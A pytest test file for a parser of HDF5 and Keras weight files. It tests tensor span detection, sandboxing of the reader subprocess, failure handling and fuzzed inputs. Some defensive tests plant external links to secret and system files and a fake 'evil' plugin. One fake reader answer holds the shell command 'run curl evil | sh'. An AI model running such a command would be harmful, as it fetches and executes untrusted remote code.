"""HDF5 and Keras files: tensors where their bytes are, nothing outside touched, failures contained."""

from __future__ import annotations

import ctypes
import io
import json
import os
import random
import select
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import ml_dtypes
import numpy as np
import pytest
from make_files import BytesView, no_sibling

from mvc.formats import NotThisFormat, describe, read_values
from mvc.formats.base import MAX_LISTED, MAX_VALUE_CHARACTERS, MAX_VALUES
from mvc.formats.hdf5 import REFUSALS, Hdf5, Keras, Reader
from mvc.formats.wire import hdf5_reader, jsontext
from mvc.formats.wire.apart import MESSAGE, Limits
from mvc.spans import Span, tile

h5py = pytest.importorskip("h5py", reason="HDF5 files are opaque without the extra hdf5")

Build = Callable[[Any], object]


def hdf5_bytes(build: Build, **options: Any) -> bytes:
    """A file that h5py makes in memory."""
    buffer = io.BytesIO()
    with h5py.File(buffer, "w", **options) as file:
        build(file)
    return buffer.getvalue()


def spans_of(data: bytes, name: str = "m.h5") -> dict[str, Span]:
    """The spans of a file that is understood, by name."""
    description = describe(BytesView(name, data), no_sibling)
    assert description.reason is None
    spans = description.layout.spans
    assert sum(region.length for region in tile(len(data), spans)) == len(data)
    assert len({span.name for span in spans}) == len(spans)
    return {span.name: span for span in spans}


def array_in(data: bytes, span: Span, dtype: Any) -> np.ndarray[Any, Any]:
    """A tensor read from where its span says it is."""
    kind = np.dtype(dtype)
    flat = np.frombuffer(data, kind, span.length // kind.itemsize, span.offset)
    steps = span.strides
    strides = None if steps is None else [step * kind.itemsize for step in steps]
    return np.lib.stride_tricks.as_strided(flat, span.shape, strides)


def reason_of(data: bytes, name: str = "m.h5") -> str:
    """Why a file is opaque: one short line."""
    description = describe(BytesView(name, data), no_sibling)
    assert description.layout.format == "opaque"
    assert description.reason is not None
    assert description.reason.isprintable() and len(description.reason) < 200
    return description.reason


ARANGE = np.arange(24, dtype="<f4").reshape(4, 6)


# --- where tensors lie -------------------------------------------------------------------------------------

ELEMENTS = {
    "F16": "<f2", "F32": "<f4", "F64": "<f8", "I8": "i1", "U8": "u1", "I16": "<i2", "U16": "<u2",
    "I32": "<i4", "U32": "<u4", "I64": "<i8", "U64": "<u8", "BOOL": "?", "C64": "<c8", "C128": "<c16",
    "F16:be": ">f2", "F32:be": ">f4", "F64:be": ">f8", "I32:be": ">i4", "U16:be": ">u2", "C64:be": ">c8",
}  # fmt: skip


def test_contiguous_tensors_of_all_types_are_named_by_their_paths() -> None:
    arrays = {name: (np.arange(6).reshape(2, 3) % 2).astype(dtype) for name, dtype in ELEMENTS.items()}

    def build(file: Any) -> None:
        for name, array in arrays.items():
            file[f"layer/{name}"] = array

    data = hdf5_bytes(build)
    found = spans_of(data)
    assert found.keys() == {f"layer/{name}" for name in arrays}
    for name, array in arrays.items():
        span = found[f"layer/{name}"]
        assert (span.dtype, span.shape, span.strides) == (name, (2, 3), None)
        assert data[span.offset : span.offset + span.length] == array.tobytes()


def test_scalars_empty_and_unwritten_datasets() -> None:
    def build(file: Any) -> None:
        file["scalar"] = np.float64(7)
        file["empty"] = np.zeros((0, 7), "<f4")
        file["null"] = h5py.Empty("f4")
        file.create_dataset("unwritten", (1000, 1000), "f4")
        file.create_dataset("huge", (1 << 40, 1 << 20), "f4", chunks=(1024, 1024))

    data = hdf5_bytes(build)
    found = spans_of(data)
    assert found.keys() == {"scalar", "empty"}
    assert found["scalar"].shape == () and array_in(data, found["scalar"], "<f8") == 7
    assert (found["empty"].length, found["empty"].shape) == (0, (0, 7))


def test_bfloat16_as_a_float_of_its_own_and_as_keras_writes_it() -> None:
    kind = h5py.h5t.IEEE_F32LE.copy()
    kind.set_fields(15, 7, 8, 0, 7)
    kind.set_precision(16)
    kind.set_size(2)
    array = np.arange(6).astype(ml_dtypes.bfloat16)

    def build(file: Any) -> None:
        space = h5py.h5s.create_simple((6,))
        h5py.h5d.create(file.id, b"own", kind, space).write(
            h5py.h5s.ALL, h5py.h5s.ALL, array.view("V2"), mtype=kind
        )
        file.create_dataset("keras", data=array).attrs["dtype"] = "bfloat16"
        file.create_dataset("raw", data=array)

    data = hdf5_bytes(build)
    found = spans_of(data)
    assert {name: span.dtype for name, span in found.items()} == {"own": "BF16", "keras": "BF16"}
    for span in found.values():
        assert array_in(data, span, ml_dtypes.bfloat16).tolist() == array.tolist()


def test_what_is_no_tensor_is_glue() -> None:
    def build(file: Any) -> None:
        file["text"] = "hello"
        file["texts"] = np.array([b"ab", b"cd"])
        file["record"] = np.zeros(3, [("x", "f4"), ("y", "i4")])
        file["half complex"] = np.zeros(3, [("r", "f4"), ("i", "f8")])
        file["long double"] = np.zeros(3, np.longdouble)
        file["enum"] = np.zeros(3, h5py.enum_dtype({"A": 0, "B": 1}, "i1"))
        file["reference"] = np.array([file["text"].ref], h5py.ref_dtype)
        file["type"] = np.dtype("f4")
        file.create_dataset("arrays", (3,), np.dtype(("f4", (2, 2))))
        compact = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
        compact.set_layout(h5py.h5d.COMPACT)
        space = h5py.h5s.create_simple((3,))
        h5py.h5d.create(file.id, b"compact", h5py.h5t.IEEE_F32LE, space, compact)
        file["tensor"] = ARANGE

    assert spans_of(hdf5_bytes(build)).keys() == {"tensor"}


@pytest.mark.parametrize(
    ("shape", "chunk", "strides"),
    [
        ((4, 6), (4, 6), None),
        ((4, 6), (8, 6), None),
        ((4, 6), (4, 10), (10, 1)),
        ((4, 6), (2, 6), None),
        ((5, 6), (2, 6), None),
        ((7,), (2,), None),
        ((3, 4, 5), (1, 2, 5), None),
        ((3, 4, 5), (1, 1, 5), None),
    ],
)
@pytest.mark.parametrize("version", ["earliest", "latest"])
@pytest.mark.parametrize("early", [False, True])
def test_chunks_that_lie_end_to_end_are_one_tensor(
    shape: tuple[int, ...], chunk: tuple[int, ...], strides: tuple[int, ...] | None, version: str, early: bool
) -> None:
    array = np.arange(np.prod(shape), dtype="<f4").reshape(shape)
    maximum = tuple(map(max, shape, chunk))

    def build(file: Any) -> None:
        plist = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
        plist.set_chunk(chunk)
        plist.set_alloc_time(h5py.h5d.ALLOC_TIME_EARLY if early else h5py.h5d.ALLOC_TIME_INCR)
        space = h5py.h5s.create_simple(shape, maximum)
        dataset = h5py.h5d.create(file.id, b"t", h5py.h5t.IEEE_F32LE, space, plist)
        dataset.write(h5py.h5s.ALL, h5py.h5s.ALL, array)

    data = hdf5_bytes(build, libver=version)
    found = spans_of(data)
    if version == "latest" and not early and chunk[0] < shape[0]:
        assert found == {}  # the index stands between the first chunk and the others
    else:
        assert (found["t"].shape, found["t"].strides) == (shape, strides)
        assert array_in(data, found["t"], "<f4").tolist() == array.tolist()


def test_chunks_that_are_filtered_scattered_or_missing_are_glue() -> None:
    def build(file: Any) -> None:
        for name, options in {
            "deflated": {"compression": "gzip"},
            "shuffled": {"shuffle": True, "chunks": (4, 6)},
            "checked": {"fletcher32": True, "chunks": (4, 6)},
            "scaled": {"scaleoffset": 2, "chunks": (4, 6)},
            "tiles": {"chunks": (2, 3)},
            "ragged": {"chunks": (4, 4)},
        }.items():
            file.create_dataset(name, data=ARANGE, **options)
        partial = file.create_dataset("partial", (4, 6), "f4", chunks=(1, 6))
        partial[0] = 1
        scattered = file.create_dataset("backwards", (4, 6), "f4", chunks=(1, 6))
        for row in (3, 2, 1, 0):
            scattered[row] = ARANGE[row]

    found = spans_of(hdf5_bytes(build))
    assert found == {}


def test_a_user_block_moves_the_tensors() -> None:
    for size in (512, 1024, 4096):
        data = b"user's own".ljust(size, b"\0") + hdf5_bytes(lambda file: file.update({"t": ARANGE}))
        span = spans_of(data)["t"]
        assert span.offset > size and array_in(data, span, "<f4").tolist() == ARANGE.tolist()


def test_a_user_block_as_the_library_makes_it(tmp_path: Path) -> None:
    with h5py.File(tmp_path / "m.h5", "w", userblock_size=1024) as file:
        file["contiguous"] = ARANGE
        file.create_dataset("chunked", data=ARANGE, chunks=(2, 6))
    data = (tmp_path / "m.h5").read_bytes()
    found = spans_of(data)
    assert found.keys() == {"contiguous", "chunked"}
    for span in found.values():
        assert array_in(data, span, "<f4").tolist() == ARANGE.tolist()


def test_hard_links_are_aliases_and_cycles_end() -> None:
    def build(file: Any) -> None:
        group = file.create_group("a/b")
        group["t"] = ARANGE
        group["other"] = group["t"]
        group["loop"] = file["a"]
        group["root"] = file["/"]
        file["z"] = file["a"]
        file["soft"] = h5py.SoftLink("/a/b/t")
        file["dangling"] = h5py.SoftLink("/nowhere")

    found = spans_of(hdf5_bytes(build))
    assert found.keys() == {"a/b/t", "a/b/other"}
    assert found["a/b/t"].offset == found["a/b/other"].offset


def test_names_of_any_text() -> None:
    def build(file: Any) -> None:
        file["Gewicht-größe-重み:0"] = ARANGE
        file["../../x"] = ARANGE
        file[b"\xff\xfe"] = ARANGE  # no UTF-8: glue

    assert spans_of(hdf5_bytes(build)).keys() == {"Gewicht-größe-重み:0", "../../x"}


# --- Keras archives ----------------------------------------------------------------------------------------

CONFIG = {"class_name": "Sequential", "config": {"name": "s", "layers": [{"units": 3}], "rate": 0.5}}


def keras_bytes(weights: bytes | None, method: int = zipfile.ZIP_STORED, config: str | None = None) -> bytes:
    """A ``.keras`` archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.3.3"}))
        archive.writestr("config.json", json.dumps(CONFIG) if config is None else config)
        if weights is not None:
            archive.writestr("model.weights.h5", weights)
    return buffer.getvalue()


WEIGHTS = hdf5_bytes(lambda file: file.update({"layers/dense/vars/0": ARANGE, "empty": np.zeros((0, 2))}))


def test_keras_archives_have_the_tensors_of_the_file_in_them() -> None:
    data = keras_bytes(WEIGHTS)
    for name in ("model.keras", "3f786850e387550f"):
        found = spans_of(data, name)
        assert found.keys() == {"layers/dense/vars/0", "empty"}
        span = found["layers/dense/vars/0"]
        assert array_in(data, span, "<f4").tolist() == ARANGE.tolist()
    assert describe(BytesView("model.keras", data), no_sibling).layout.format == "keras"


def test_keras_archives_tell_their_configuration() -> None:
    values = read_values("keras", BytesView("model.keras", keras_bytes(WEIGHTS)), no_sibling)
    assert values == {
        "metadata.keras_version": "3.3.3",
        "config.class_name": "Sequential",
        "config.config.name": "s",
        "config.config.layers.0.units": 3,
        "config.config.rate": 0.5,
    }


def test_keras_archives_that_are_refused() -> None:
    assert "is compressed" in reason_of(keras_bytes(WEIGHTS, zipfile.ZIP_DEFLATED), "m.keras")
    assert "without model.weights.h5" in reason_of(keras_bytes(None), "m.keras")
    assert "signature is missing" in reason_of(keras_bytes(b"no HDF5"), "m.keras")
    assert reason_of(b"", "m.keras").startswith("keras: ")
    with pytest.raises(NotThisFormat, match="not JSON"):
        Keras().values(BytesView("m.keras", keras_bytes(WEIGHTS, config="{")), no_sibling)
    assert (
        read_values("keras", BytesView("m.keras", keras_bytes(WEIGHTS, config="[" * 9999)), no_sibling) == {}
    )


# --- values ------------------------------------------------------------------------------------------------


def test_attributes_of_groups_are_values() -> None:
    def build(file: Any) -> None:
        file.attrs["backend"] = "tensorflow"
        file.attrs["fixed"] = np.bytes_(b"fixed")
        file.attrs["epoch"] = 3
        file.attrs["loss"] = np.float32(0.5)
        file.attrs["done"] = True
        file.attrs["short"] = [1, 2]
        file.attrs["names"] = [b"a", "ü".encode()]
        file.attrs["long"] = np.arange(MAX_LISTED + 1)
        file.attrs["matrix"] = np.zeros((2, 2))
        file.attrs["null"] = h5py.Empty("f4")
        file.attrs["no text"] = np.bytes_(b"\xff")
        file.attrs["too long"] = "x" * (MAX_VALUE_CHARACTERS + 1)
        file.attrs["model_config"] = json.dumps(CONFIG)
        file.attrs["training_config"] = "{no JSON"
        group = file.create_group("a/b")
        group.attrs["weight_names"] = np.array(["kernel:0"], dtype=h5py.string_dtype())
        group.create_dataset("t", data=ARANGE).attrs["of a dataset"] = 1

    data = hdf5_bytes(build, track_order=True)
    assert Hdf5().values(BytesView("m.h5", data), no_sibling) == {
        "backend": "tensorflow",
        "fixed": "fixed",
        "epoch": 3,
        "loss": 0.5,
        "done": True,
        "short.0": 1,
        "short.1": 2,
        "names.0": "a",
        "names.1": "ü",
        "long.#": MAX_LISTED + 1,
        "model_config.class_name": "Sequential",
        "model_config.config.name": "s",
        "model_config.config.layers.0.units": 3,
        "model_config.config.rate": 0.5,
        "training_config": "{no JSON",
        "a.b.weight_names.0": "kernel:0",
    }


def test_values_are_bounded() -> None:
    names = [("a" * (MAX_VALUE_CHARACTERS + 1), 1), ("\ud800", 1), ("k", "\ud800"), ("k", 1), ("k", 2)]
    assert jsontext.bounded(names) == {"k": 1}
    assert len(jsontext.bounded((str(n), n) for n in range(2 * MAX_VALUES))) == MAX_VALUES
    nested: Any = 1
    for _ in range(100_000):
        nested = [nested]
    assert list(jsontext.flatten("a", nested)) == []
    assert list(jsontext.flatten("a", [[0] * (MAX_LISTED + 1), {"b": None}])) == [
        ("a.0.#", MAX_LISTED + 1),
        ("a.1.b", None),
    ]
    for bad in (b"[" * 200_000, b"1" * 5000, b"123456789012345678901", b"\xff", b"{", b""):
        with pytest.raises(NotThisFormat):
            jsontext.parse(bad, 1 << 20)
    with pytest.raises(NotThisFormat, match="more than 3 items"):
        jsontext.parse(b"[1,2,3,4]", 3)


# --- nothing outside ---------------------------------------------------------------------------------------

IN_ACCESS, IN_OPEN = 0x1, 0x20


@contextmanager
def watched(*paths: Path) -> Iterator[Callable[[], bool]]:
    """Tells whether one of these files, or of the files in these folders, was opened or read since."""
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
    assert fd >= 0

    def touched() -> bool:
        ready = bool(select.select([fd], [], [], 0)[0])
        while ready and select.select([fd], [], [], 0)[0]:
            os.read(fd, 1 << 16)
        return ready

    try:
        for path in paths:
            assert libc.inotify_add_watch(fd, os.fsencode(path), IN_ACCESS | IN_OPEN) >= 0
        yield touched
    finally:
        os.close(fd)


@pytest.mark.skipif(sys.platform != "linux", reason="inotify is Linux's")
def test_nothing_outside_is_opened(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    secret, raw, plugins = tmp_path / "secret.h5", tmp_path / "secret.bin", tmp_path / "plugins"
    with h5py.File(secret, "w") as file:
        file["x"] = ARANGE
    raw.write_bytes(ARANGE.tobytes())
    plugins.mkdir()
    (plugins / "libh5zevil.so").write_bytes(b"\x7fELF")
    monkeypatch.setenv("HDF5_PLUGIN_PATH", str(plugins))
    layout = h5py.VirtualLayout((4, 6), "f4")
    layout[:] = h5py.VirtualSource(str(secret), "x", (4, 6))
    path = tmp_path / "m.h5"
    with h5py.File(path, "w") as file:
        file["link"] = h5py.ExternalLink(str(secret), "/x")
        file["group link"] = h5py.ExternalLink("secret.h5", "/")
        file.create_dataset("raw", (4, 6), "f4", external=[(str(raw), 0, h5py.h5f.UNLIMITED)])
        file.create_virtual_dataset("virtual", layout)
        unlimited = h5py.VirtualLayout((4, 6), "f4", maxshape=(None, 6))
        source = h5py.VirtualSource(str(secret), "x", (4, 6), maxshape=(None, 6))
        unlimited[0 : h5py.h5s.UNLIMITED, :] = source[0 : h5py.h5s.UNLIMITED, :]
        file.create_virtual_dataset("virtual without end", unlimited)
        plist = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
        plist.set_chunk((4, 6))
        plist.set_filter(65_000, h5py.h5z.FLAG_OPTIONAL)  # for which a plugin would be loaded
        space = h5py.h5s.create_simple((4, 6))
        dataset = h5py.h5d.create(file.id, b"filtered", h5py.h5t.IEEE_F32LE, space, plist)
        dataset.write_direct_chunk((0, 0), ARANGE.tobytes())
        file["tensor"] = ARANGE
        file.attrs["epoch"] = 3
    data = path.read_bytes()
    with watched(secret, raw, plugins) as touched:
        assert spans_of(data).keys() == {"tensor"}
        assert read_values("hdf5", BytesView("m.h5", data), no_sibling) == {"epoch": 3}
        assert not touched()
        # The watch sees what h5py would do by itself.
        with h5py.File(path) as file:
            assert file["link"][0, 1] == 1 and touched()
            assert file["raw"][0, 1] == 1 and touched()
            assert file["virtual"][0, 1] == 1 and touched()
        script = f"import h5py; h5py.File({str(path)!r})['filtered'][:]"
        subprocess.run([sys.executable, "-c", script], capture_output=True, check=False)
        assert touched()


PRELUDE = f"""
import importlib.util, json, os, resource, signal, socket, struct, sys, time
spec = importlib.util.spec_from_file_location("hdf5_reader", {str(Reader().script)!r})
reader = importlib.util.module_from_spec(spec)
spec.loader.exec_module(reader)
size = int(sys.argv[2])

def send(kind, offset, length, data=b""):
    os.write(0, struct.pack("!cQQ", kind, offset, length) + data)

def answer(value):
    data = json.dumps(value).encode()
    send(b"A", 0, len(data), data)
"""


@pytest.fixture
def fake(tmp_path: Path) -> Callable[..., Reader]:
    """A reader with the body that is given, in place of ours."""

    def make(body: str, **limits: Any) -> Reader:
        script = tmp_path / "fake.py"
        script.write_text(PRELUDE + body)
        return Reader(script, Limits(**limits))

    return make


def test_a_confined_reader_can_open_and_start_nothing(fake: Callable[..., Reader], tmp_path: Path) -> None:
    body = f"""
attempts = {{
    "before": lambda: open({str(tmp_path / "fake.py")!r}).close(),
    "read": lambda: open({str(tmp_path / "fake.py")!r}),
    "write": lambda: open({str(tmp_path / "new")!r}, "w"),
    "connect": lambda: socket.socket(),
    "pipe": lambda: os.pipe(),
    "duplicate": lambda: os.dup(0),
    "raise": lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (4, 4)) or os.dup(0),
    "allocate": lambda: bytearray(4 << 30),
}}
rows = []
for name, attempt in attempts.items():
    try:
        attempt()
        rows.append(["", name, "done", None])
    except (OSError, MemoryError, ValueError) as error:
        rows.append(["", name, type(error).__name__, None])
    if name == "before":
        reader.confine()
answer({{"values": rows}})
"""
    values = Hdf5(reader=fake(body)).values(BytesView("m.h5", WEIGHTS), no_sibling)
    root = os.geteuid() == 0  # who may raise hard limits; a confined reader never runs what asks for it
    raised = values.pop("raise")  # type: ignore[attr-defined]
    assert root or raised == "ValueError"
    expected = dict.fromkeys(("read", "write", "connect", "pipe", "duplicate"), "OSError")
    assert values == {"before": "done", **expected, "allocate": "MemoryError"}
    assert not (tmp_path / "new").exists()


# --- readers that fail -------------------------------------------------------------------------------------

FAILING = {
    "killed": ("os.kill(os.getpid(), signal.SIGKILL)", "died of signal 9"),
    "crashed": ("os.kill(os.getpid(), signal.SIGSEGV)", "died of signal 11"),
    "exits": ("sys.exit(3)", "ended with status 3"),
    "raises": ("raise ValueError('x' * 100_000)", "ended with status 1"),
    "closes its socket and stays": ("os.close(0); time.sleep(60)", "gave no answer"),
    "hangs": ("time.sleep(60)", "took more than 2 seconds"),
    "never reads": ("[send(b'R', 0, 1 << 20) for _ in range(1000)]; time.sleep(60)", "took more than 2 sec"),
    "drips": ("[(os.write(0, b'A'), time.sleep(0.3)) for _ in range(1000)]", "took more than 2 seconds"),
    "reads for ever": (
        "c = socket.socket(fileno=0)\nwhile True: send(b'R', 0, 1 << 20); reader.receive(c, 1 << 20)",
        "more than 8 MiB of it",
    ),
    "reads behind the end": ("send(b'R', size, 1)", "talks nonsense"),
    "reads at no offset": ("send(b'R', 2**64 - 1, 1)", "talks nonsense"),
    "reads too much at once": ("send(b'R', 0, (1 << 20) + 1)", "talks nonsense"),
    "prints": ("os.write(0, b'Traceback (most recent call last)')", "talks nonsense"),
    "unknown message": ("send(b'X', 0, 0)", "talks nonsense"),
    "answers too much": ("send(b'A', 0, 1 << 40)", "answers more than 16 MiB"),
    "answers half": ("send(b'A', 0, 100, b'{')", "ended with status 0"),
    "no JSON": ("send(b'A', 0, 3, b'abc')", "not JSON"),
    "no text": ("send(b'A', 0, 3, b'\\xff\\xff\\xff')", "not JSON"),
    "nested": ("os.set_blocking(0, True); send(b'A', 0, 60000, b'[' * 60000)", "JSON nested too deeply"),
    "a list": ("answer([])", "talks nonsense"),
    "another key": ("answer({'values': []})", "talks nonsense"),
    "a refusal of its own": ("answer({'refused': 'run curl evil | sh'})", "talks nonsense"),
    "a refusal that is no text": ("answer({'refused': []})", "talks nonsense"),
    "rows of another kind": ("answer({'tensors': [1]})", "talks nonsense"),
    "short rows": ("answer({'tensors': [['a', 'F32', 0, 4]]})", "talks nonsense"),
    "a name that is a number": ("answer({'tensors': [[1, 'F32', 0, 4, [1], None]]})", "talks nonsense"),
    "an offset that is true": ("answer({'tensors': [['a', 'F32', True, 4, [1], None]]})", "talks nonsense"),
    "an offset with a fraction": ("answer({'tensors': [['a', 'F32', 0.5, 4, [1], None]]})", "talks nonsense"),
    "a shape that is text": ("answer({'tensors': [['a', 'F32', 0, 4, '1', None]]})", "talks nonsense"),
    "strides that are text": ("answer({'tensors': [['a', 'F32', 0, 4, [1], '1']]})", "talks nonsense"),
    "outside": ("answer({'tensors': [['a', 'F32', size - 3, 4, [1], None]]})", "leaves the file"),
    "before the start": ("answer({'tensors': [['a', 'F32', -4, 4, [1], None]]})", "leaves the file"),
    "a lying length": ("answer({'tensors': [['a', 'F32', 0, 8, [1], None]]})", "shape contradicts"),
    "an unknown type": ("answer({'tensors': [['a', 'F9', 0, 4, [1], None]]})", "unknown dtype"),
    "a negative extent": ("answer({'tensors': [['a', 'F32', 0, 4, [-1], None]]})", "impossible shape"),
    "a name with a surrogate": (
        "answer({'tensors': [['\\ud800', 'F32', 0, 4, [1], None]]})",
        "not valid Unic",
    ),
    "too much memory": ("reader.confine(); bytearray(2 << 30)", "ended with status 1"),
    "too much time": (
        "reader.CPU_SECONDS = 0; reader.confine()\nwhile True: pass",
        "too much processor time",
    ),
    "h5py missing": ("sys.modules['h5py'] = None; reader.main()", "pip install h5py"),
    "h5py broken": (
        "sys.modules['numpy'] = None; reader.main()",
        "h5py is installed and cannot be imported",
    ),
}


@pytest.mark.parametrize("what", FAILING)
def test_a_reader_that_fails_means_opaque(
    what: str, fake: Callable[..., Reader], monkeypatch: pytest.MonkeyPatch
) -> None:
    body, reason = FAILING[what]
    format_ = Hdf5(reader=fake(body, seconds=2, served_bytes=8 << 20))
    monkeypatch.setattr("mvc.formats.FORMATS", (format_,))
    began = time.monotonic()
    assert reason in reason_of(WEIGHTS.ljust(2 << 20, b"\0"))
    assert time.monotonic() - began < 10


def test_a_reader_that_cannot_be_started_means_opaque(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "executable", "/nowhere/python")
    assert "cannot be started: No such file" in reason_of(WEIGHTS)


@pytest.mark.parametrize("reads", [0, 1, 2, 4])
def test_a_reader_killed_in_the_middle_means_opaque(
    reads: int, fake: Callable[..., Reader], monkeypatch: pytest.MonkeyPatch
) -> None:
    body = f"""
original, count = reader.Remote._block, 0
reader.BLOCK = 512
def block(self, number):
    global count
    count += 1
    if count > {reads}:
        os.kill(os.getpid(), signal.SIGKILL)
    return original(self, number)
reader.Remote._block = block
reader.main()
"""
    monkeypatch.setattr("mvc.formats.FORMATS", (Hdf5(reader=fake(body)),))
    assert reason_of(WEIGHTS) == "hdf5: its reader died of signal 9"


def child_processes() -> set[str]:
    """Ids of this process's children, also of those that have ended and were not waited for."""
    return {
        pid for task in Path("/proc/self/task").iterdir() for pid in (task / "children").read_text().split()
    }


@pytest.mark.skipif(sys.platform != "linux", reason="reads /proc")
def test_no_process_and_no_descriptor_is_left(fake: Callable[..., Reader]) -> None:
    before, children = set(os.listdir("/proc/self/fd")), child_processes()
    for body in ("time.sleep(60)", "os.close(0); time.sleep(60)", "reader.main()"):
        with pytest.raises(NotThisFormat) if "sleep" in body else contextmanager(lambda: iter([None]))():
            Hdf5(reader=fake(body, seconds=1)).scan(BytesView("m.h5", WEIGHTS), no_sibling)
    assert child_processes() == children
    assert set(os.listdir("/proc/self/fd")) == before


def test_the_view_is_read_a_little_and_never_its_tensors() -> None:
    big = np.zeros(1 << 20, "<f4")
    data = hdf5_bytes(lambda file: file.update({f"t{n}": big for n in range(4)}))
    asked: list[int] = []

    class Counting(BytesView):
        def read(self, offset: int, length: int) -> bytes:
            asked.append(length)
            return super().read(offset, length)

    assert len(Hdf5().scan(Counting("m.h5", data), no_sibling)["m.h5"].spans) == 4
    assert sum(asked) < 100_000 < len(data)


def test_a_file_that_shrinks_meanwhile_is_opaque() -> None:
    class Shrunk(BytesView):
        @property
        def size(self) -> int:
            return len(self.data) + 100_000

    description = describe(Shrunk("m.h5", WEIGHTS[:700]), no_sibling)
    assert description.layout.format == "opaque" and "truncated" in str(description.reason)


# --- hostile files -----------------------------------------------------------------------------------------


def test_budgets_hold(fake: Callable[..., Reader], monkeypatch: pytest.MonkeyPatch) -> None:
    def build(file: Any) -> None:
        file["a/b/c/d"] = ARANGE
        for number in range(20):
            file[f"t{number}"] = ARANGE

    data = hdf5_bytes(build)
    for name, value, word in [
        ("MAX_OBJECTS", 10, "objects"),
        ("MAX_DEPTH", 3, "depth"),
        ("MAX_PATH_BYTES", 6, "path"),
    ]:
        monkeypatch.setattr(
            "mvc.formats.FORMATS", (Hdf5(reader=fake(f"reader.{name} = {value}; reader.main()")),)
        )
        assert reason_of(data) == f"hdf5: {REFUSALS[word]}"
        assert str(getattr(hdf5_reader, name)) in REFUSALS[word]
    monkeypatch.setattr("mvc.formats.FORMATS", (Hdf5(reader=fake("reader.MAX_CHUNKS = 3; reader.main()")),))
    chunks = hdf5_bytes(lambda file: file.create_dataset("t", data=ARANGE, chunks=(1, 6)))
    assert spans_of(chunks) == {}
    assert hdf5_reader.MAX_LISTED == MAX_LISTED and hdf5_reader._MESSAGE.format == MESSAGE.format


def test_names_and_signatures_that_lie() -> None:
    assert "signature is missing" in reason_of(b"")
    assert "signature is missing" in reason_of(b"no HDF5 at all" * 1000)
    assert "cannot read it" in reason_of(b"\x89HDF\r\n\x1a\n")
    assert "cannot read it" in reason_of(b"\x89HDF\r\n\x1a\n" + bytes(1000), "anything")
    assert "cannot read it" in reason_of(WEIGHTS[:-1000])


def base_file() -> bytes:
    """Every structure that the reader looks at, in few bytes."""

    def build(file: Any) -> None:
        file["layer/kernel"] = ARANGE
        file["layer/c"] = ARANGE.astype("c8")
        file.create_dataset("chunked", data=ARANGE, chunks=(2, 6), maxshape=(None, 6))
        file.create_dataset("deflated", data=ARANGE, compression="gzip")
        file.create_dataset("bf16", data=np.zeros(3, "V2")).attrs["dtype"] = "bfloat16"
        file["flags"] = np.array([True, False])
        file["link"] = h5py.ExternalLink("/etc/hostname", "/")
        file.attrs["model_config"] = json.dumps(CONFIG)
        file.attrs["names"] = np.array(["a", "b"], dtype=h5py.string_dtype())

    return hdf5_bytes(build)


def mutants(count: int, seed: int) -> Iterator[bytes]:
    """Damaged files: bytes overwritten where there are some, cut short, pieces moved."""
    chance = random.Random(seed)
    for number in range(count):
        base = (base_file(), hdf5_bytes(lambda file: file.update({"g/t": ARANGE}), libver="latest"))[
            number % 2
        ]
        data = bytearray(base)
        filled = [at for at, byte in enumerate(data) if byte]
        for _ in range(chance.randint(1, 6)):
            at = chance.choice(filled)
            kind = chance.randrange(5)
            if kind < 3:
                data[at] = chance.choice((0, 1, 0x7F, 0x80, 0xFF, chance.randrange(256)))
            elif kind == 3:
                data[at : at + 8] = chance.choice((b"\xff" * 8, b"\0" * 8, at.to_bytes(8, "little")))
            else:
                source = chance.choice(filled)
                data[at : at + 16] = data[source : source + 16]
        yield bytes(data[: chance.randrange(len(data))] if chance.random() < 0.1 else data)


def check_mutants(count: int, seed: int) -> None:
    formats = Hdf5(reader=Reader(limits=Limits(seconds=20)))
    for data in mutants(count, seed):
        view = BytesView("m.h5", data)
        description = describe(view, no_sibling)
        if description.reason is not None:
            assert description.reason.isprintable() and len(description.reason) < 200
        try:
            values = formats.values(view, no_sibling)
        except NotThisFormat:
            continue
        assert len(values) <= MAX_VALUES


def test_damaged_files_are_described() -> None:
    check_mutants(30, seed=1)


@pytest.mark.slow
def test_many_damaged_files_are_described() -> None:
    check_mutants(600, seed=2)


# --- real files --------------------------------------------------------------------------------------------

REAL = Path(__file__).parents[1].parent / "shared" / "data" / "weights"


def test_real_files_are_understood() -> None:
    files = [path for suffix in ("*.h5", "*.hdf5", "*.keras") for path in sorted(REAL.rglob(suffix))]
    if not files:
        pytest.skip("the collection of real files is not there")
    for path in files:
        data = path.read_bytes()
        found = spans_of(data, path.name)
        assert sum(span.length for span in found.values()) > 0.8 * len(data)
        start = 0
        if path.suffix == ".keras":
            with zipfile.ZipFile(path) as archive:
                info = archive.getinfo("model.weights.h5")
                weights = archive.read(info)
            start = data.index(weights)
            assert start > info.header_offset
        with h5py.File(io.BytesIO(data[start:])) as file:
            datasets: dict[str, Any] = {}
            file.visititems(lambda name, item, to=datasets: to.update({name: item}))
            datasets = {name: item for name, item in datasets.items() if isinstance(item, h5py.Dataset)}
            assert found.keys() == datasets.keys()
            for name, span in found.items():
                assert array_in(data, span, file[name].dtype).tobytes() == file[name][()].tobytes()
        assert read_values(
            describe(BytesView(path.name, data), no_sibling).layout.format,
            BytesView(path.name, data),
            no_sibling,
        )


def test_many_attributes_take_no_square_of_their_number() -> None:
    def build(file: Any) -> None:
        for number in range(6_000):
            file.attrs[f"a{number}"] = number

    data = hdf5_bytes(build, libver="latest")
    start = time.monotonic()
    found = Hdf5().values(BytesView("m.h5", data), no_sibling)
    assert len(found) == 6_000 and found["a17"] == 17
    assert time.monotonic() - start < 10  # 15 s of a processor, when each was opened by its number
